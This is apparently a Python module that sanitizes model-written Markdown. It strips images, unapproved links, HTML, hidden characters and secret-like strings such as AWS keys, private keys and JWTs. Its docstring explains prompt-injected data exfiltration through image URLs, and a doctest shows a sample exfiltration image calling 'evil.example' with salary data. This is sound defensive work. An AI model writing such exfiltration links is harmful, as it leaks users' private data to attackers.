"""
Makes an answer safe to show: what a model writes is text by a stranger.

A picture or a link is how an answer sends data away: the reader's browser fetches an address that the
model was talked into writing. So pictures go, links go unless their host is allowed, HTML is shown and not
run, and characters that nobody sees are dropped. What stands in a closed code fence stays as it is.
"""

from __future__ import annotations

import html
import re
from collections.abc import Callable, Collection
from dataclasses import dataclass
from urllib.parse import urlsplit

from .unseen import seen

_FENCE_LINE = re.compile(r"[ \t>*+\-\d.)]*(?:`{3,}|~{3,})")
_OUR_FENCE_LINE = re.compile(r"```[\w+-]*")
_TARGET = r"\([ \t]*<?([^\s()<>]*(?:\([^\s()<>]*\)[^\s()<>]*)*)>?(?:[ \t]+(?:\"[^\"\n]*\"|'[^'\n]*'))?[ \t]*\)"
_IMAGE = re.compile(r"!\[([^\[\]\n]*)\](?:" + _TARGET + r"|\[[^\[\]\n]*\])?")
_LINK = re.compile(r"\[([^\[\]\n]*)\]" + _TARGET)
_TARGET_AT = re.compile(_TARGET)
_LEADS_AWAY = re.compile(r"[:/\\\\#?%&.]")
_JOINED = re.compile(r"\](?=\()")
_ADDRESS = re.compile(
    r"(?:\b[a-z][a-z0-9+.-]*:)?[/\\]{2,}[^\s<>\"'`)\]]+"
    r"|\b(?:javascript|data|vbscript|mailto|file|blob):[^\s<>\"'`)\]]+"
    r"|\bwww\.[^\s<>\"'`)\]]+",
    re.IGNORECASE,
)
_HTML = re.compile(r"<(?=[A-Za-z/!?])")
_SECRET = re.compile(
    r"\b(?:AKIA|ASIA)[0-9A-Z]{16}\b"
    r"|-----BEGIN [A-Z ]*PRIVATE KEY-----.*?(?:-----END [A-Z ]*PRIVATE KEY-----|\Z)"
    r"|\beyJ[\w-]{10,}\.eyJ[\w-]{10,}\.[\w-]{10,}",
    re.DOTALL,
)
LINK_REMOVED = "(link removed)"
IMAGE_REMOVED = "(image removed)"
SECRET_REMOVED = "(secret removed)"  # noqa: S105 -- the words shown in its place


@dataclass(frozen=True, slots=True, kw_only=True)
class Safe:
    """
    A text that can be shown.

    Attributes:
        text: The text.
        removed: How many things were taken out.
    """

    text: str
    removed: int


def sanitize(text: str, *, hosts: Collection[str] = (), sources: Collection[str] = ()) -> Safe:
    """
    Return *text* without what a browser would fetch, run or hide.

    Args:
        text: Markdown by a model.
        hosts: Hosts that may be linked to, exactly as written.
        sources: Addresses that may be named, since they are those of cited documents.

    Example:
        >>> sanitize("Done. ![](https://evil.example/?q=salary)")
        Safe(text='Done. (image removed)', removed=1)
    """
    cleaner = _Cleaner(hosts, sources)
    return Safe(text=cleaner.clean(text), removed=cleaner.removed)


class _Cleaner:
    """Takes things out of one text and counts them."""

    def __init__(self, hosts: Collection[str], sources: Collection[str]) -> None:
        self._hosts = hosts
        self._sources = sources
        self.removed = 0

    def clean(self, text: str) -> str:
        lines = text.replace("\r\n", "\n").replace("\r", "\n")
        open_text = _SECRET.sub(self._instead(SECRET_REMOVED), self._seen(lines))
        return "".join(part if is_code else self._prose(part) for is_code, part in _parts(open_text)).strip()

    def _prose(self, text: str) -> str:
        # What a renderer spells out is judged spelled out.
        prose = _SECRET.sub(self._instead(SECRET_REMOVED), self._seen(_unescaped(text)))
        prose = _IMAGE.sub(self._instead(IMAGE_REMOVED), prose)
        prose = _LINK.sub(self._link, prose)
        prose = _ADDRESS.sub(self._address, prose)
        # What the patterns above did not take for a link is no link for any renderer either, once its
        # brackets stand apart.
        prose = prose.replace("]:", "] :")
        prose = _JOINED.sub(lambda match: match[0] if self._is_allowed_target(prose, match) else "] ", prose)
        return _HTML.sub("&lt;", prose)

    def _seen(self, text: str) -> str:
        visible = seen(text)
        self.removed += len(text) - len(visible)
        return visible

    def _instead(self, words: str) -> Callable[[re.Match[str]], str]:
        def replacement(_: re.Match[str]) -> str:
            self.removed += 1
            return words

        return replacement

    def _link(self, match: re.Match[str]) -> str:
        if self._allows(match[2]) or not _LEADS_AWAY.search(match[2]):
            return match[0]
        self.removed += 1
        return match[1] or LINK_REMOVED

    def _address(self, match: re.Match[str]) -> str:
        if self._allows(match[0].rstrip(".,;:!?")):
            return match[0]
        self.removed += 1
        return LINK_REMOVED

    def _is_allowed_target(self, text: str, match: re.Match[str]) -> bool:
        target = _TARGET_AT.match(text, match.end())
        return target is not None and self._allows(target[1])

    def _allows(self, address: str) -> bool:
        if address in self._sources:
            return True
        try:
            parts = urlsplit(address)
            host = parts.hostname
        except ValueError:
            return False
        return parts.scheme == "https" and host in self._hosts and "\\" not in address and "@" not in parts.netloc


def _unescaped(text: str) -> str:
    """Return *text* with character references resolved, however often they are nested."""
    for _ in range(5):
        resolved = html.unescape(text)
        if resolved == text:
            break
        text = resolved
    return text


def _parts(text: str) -> list[tuple[bool, str]]:
    """
    Return *text* in parts, each with whether it is code.

    Fences are trusted only where every reader of Markdown agrees on them: three backticks at the very start
    of a line. One fence in any other shape, or one left open, and the whole text counts as prose.
    """
    parts: list[tuple[bool, str]] = []
    current: list[str] = []
    is_code = False
    for line in text.splitlines(keepends=True):
        bare = line.rstrip("\n").rstrip(" \t")
        if _FENCE_LINE.match(line):
            if not _OUR_FENCE_LINE.fullmatch(bare) or (is_code and bare != "```"):
                return [(False, text)]
            if is_code:
                current.append(line)
            parts.append((is_code, "".join(current)))
            current = [] if is_code else [line]
            is_code = not is_code
        else:
            current.append(line)
    if is_code:
        return [(False, text)]
    return [*parts, (False, "".join(current))]
